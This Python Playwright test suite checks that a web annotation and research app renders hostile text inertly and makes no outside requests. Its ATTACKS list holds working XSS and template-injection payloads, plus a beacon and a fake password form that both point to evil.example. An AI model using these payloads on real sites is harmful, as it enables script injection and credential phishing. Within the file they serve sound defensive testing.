"""Text that attacks the page: nothing runs, nothing is fetched from elsewhere, every character is shown."""

from typing import Any

import pytest
from playwright.sync_api import BrowserContext, expect

from store import jobs, models
from store.records import Model

pytestmark = pytest.mark.e2e

ATTACKS = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "${window.hacked = 1} `${window.hacked = 1}` ${(() => { window.hacked = 1 })()}",
    "{{constructor.constructor('window.hacked = 1')()}} {{{value}}} {{#each this}}{{this}}{{/each}} @children",
    "![beacon](http://evil.example/beacon.png) <img src=http://evil.example/i.png>",
    "<svg onload=window.hacked=1><iframe srcdoc='<script>parent.hacked = 1</script>'></iframe></svg>",
    "<form action=http://evil.example><input name=password><button>Sign in again</button></form>",
    "[link](javascript:window.hacked=1) <a href=javascript:window.hacked=1>a</a>",
)
LATEX = (
    "$$\\href{javascript:window.hacked=1}{x}$$ \\(\\unicode{x}\\) </textarea></style><style>*{display:none}</style>"
)
CHAT = {f"Prompt {ATTACKS[0]} {ATTACKS[1]} {ATTACKS[2]} {LATEX}": ATTACKS}


@pytest.mark.parametrize("workspace", [CHAT], indirect=True)
def test_hostile_responses_are_text(site: Any, context: BrowserContext) -> None:
    page = site.sign_in(context, "<img src=x onerror='window.hacked = 1'>")
    foreign: list[str] = []
    errors: list[str] = []
    page.on("request", lambda r: None if r.url.startswith((site.url, "data:", "blob:")) else foreign.append(r.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(site.url + "/annotate")
    page.wait_for_selector(".card")
    for key in ("a", "1", "b", "2"):
        page.keyboard.press(key)
    page.wait_for_timeout(500)
    assert page.evaluate("window.hacked") is None
    assert foreign == []
    assert errors == []
    shown = sorted(text.strip() for text in page.locator(".card .text").all_inner_texts())
    assert "<script>window.hacked = 1</script>" in shown
    assert "${window.hacked = 1} ${window.hacked = 1} ${(() => { window.hacked = 1 })()}" in shown
    assert page.locator(".card .text :is(img, svg, iframe, form, input, button, script, style)").count() == 0
    assert page.locator(".prompt :is(img, svg, iframe, form, input, button, script, style)").count() == 0
    expect(page.locator(".prompt")).to_contain_text("unicode")
    expect(page.locator(".site .who b")).to_contain_text("<img src=x")
    expect(page.locator(".bar")).to_be_visible()


def test_hostile_jobs_and_models_are_text(site: Any, context: BrowserContext) -> None:
    with site.workspace.store() as db:
        models.add(db, Model(ATTACKS[1], "policy", ATTACKS[0], metrics={ATTACKS[1]: ATTACKS[0]}))
        for attack in ATTACKS:
            job = jobs.enqueue(db, attack)
            jobs.claim(db, 1, job)
            jobs.log(db, job, 0, {attack: 1.0})
            jobs.report(db, job, 0.5, attack)
            jobs.fail(db, job, attack)
    page = site.sign_in(context, "Rosa", "researcher")
    foreign: list[str] = []
    page.on("request", lambda r: None if r.url.startswith((site.url, "data:", "blob:")) else foreign.append(r.url))
    page.goto(site.url + "/research#/jobs")
    expect(page.locator(".jobs .error").first).to_contain_text("[link](javascript:")
    page.get_by_role("tab", name="Versions").click()
    expect(page.locator("#lineage td.name").first).to_contain_text(ATTACKS[1][:9])
    page.wait_for_timeout(1500)
    assert page.evaluate("window.hacked") is None
    assert foreign == []
    assert page.locator("#jobs :is(img, iframe, form, script), #lineage :is(img, iframe, form, script)").count() == 0


def test_no_page_fetches_anything_from_elsewhere(site: Any, context: BrowserContext) -> None:
    foreign: list[str] = []
    failed: list[str] = []
    messages: list[str] = []
    page = site.sign_in(context, "Rosa", "researcher")
    page.on("request", lambda r: None if r.url.startswith((site.url, "data:", "blob:")) else foreign.append(r.url))
    page.on("response", lambda r: failed.append(r.url) if r.status >= 400 else None)
    page.on("console", lambda m: messages.append(m.text) if m.type in ("error", "warning") else None)
    for path, ready in (("/annotate", ".card"), ("/research", ".counts"), ("/login", "form")):
        page.goto(site.url + path)
        page.wait_for_selector(ready)
        page.wait_for_timeout(1200)
    assert (foreign, failed, messages) == ([], [], [])
